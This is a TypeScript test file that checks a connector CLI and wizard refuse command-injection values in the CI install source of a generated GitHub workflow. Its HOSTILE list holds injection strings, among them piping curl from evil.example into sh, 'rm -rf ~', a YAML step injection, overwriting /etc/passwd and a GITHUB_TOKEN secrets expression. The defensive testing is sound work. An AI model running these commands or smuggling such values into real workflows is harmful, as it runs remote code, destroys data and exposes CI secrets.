// The CI install source lands in a shell line of the generated workflow (`run: npm install -g <SPEC>`): a value
// that would run anything else there is refused at `new` (and by the wizard's checks), and no project is written.
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkAnswers, type WizardAnswers } from '../../src/shared/connector/wizard';
import { cliIn } from '../../src/main/cli/cli-test-kit';
import { ciWorkflowText } from '../../src/main/services/connector/ci-workflow';
import { tmpDir } from '../helpers/tmp';

const HOSTILE = [
  'connector-studio; curl https://evil.example/x | sh',
  'connector-studio && rm -rf ~',
  'connector-studio\n      - run: curl evil.example',
  '$(curl evil.example)',
  '`id`',
  'connector-studio | tee /tmp/x',
  '"connector-studio"',
  "connector-studio' x",
  '-g --prefix=/tmp/evil',
  'connector-studio > /etc/passwd',
  '${{ secrets.GITHUB_TOKEN }}',
  '',
];
const FINE = ['connector-studio', 'connector-studio@1.2.0', 'git+https://github.com/acme/connector-studio.git#v1.2.0', 'https://github.com/acme/connector-studio/releases/download/v1.2.0/connector-studio-1.2.0.tgz', '@acme/connector-studio@^1.2.0'];

describe('the CI install source', () => {
  it('refuses every value with shell or YAML meaning, at new and in the wizard, and writes no project', async () => {
    const work = await tmpDir('cs-ci-install-');
    const cli = cliIn(work);
    const refused: string[] = [];
    for (const [i, spec] of HOSTILE.entries()) {
      const r = await cli('new', `acme${i}`, '--template', 'blank', '--ci-install', spec, '--dir', 'ws');
      if (r.code === 2 && /CI install source/.test(r.err) && !existsSync(path.join(work, 'ws', `connector-acme${i}`))) refused.push(spec);
      expect(() => ciWorkflowText('acme', spec)).toThrow(/CI install source/);
      expect(checkAnswers({ ciInstall: spec } as WizardAnswers).some((x) => x.field === 'ciInstall' && x.severity === 'error')).toBe(true);
    }
    expect(refused).toEqual(HOSTILE);
  }, 120_000);

  it('takes the npm package, a version, a git URL and a tarball URL as they are', async () => {
    for (const spec of FINE) expect(ciWorkflowText('acme', spec)).toContain(`run: npm install -g ${spec}\n`);
    const work = await tmpDir('cs-ci-install-');
    expect((await cliIn(work)('new', 'acme', '--template', 'blank', '--dir', 'ws')).code).toBe(0);
    expect(readFileSync(path.join(work, 'ws', 'connector-acme', '.github', 'workflows', 'connector.yml'), 'utf8')).toContain('run: npm install -g connector-studio\n');
  }, 60_000);
});
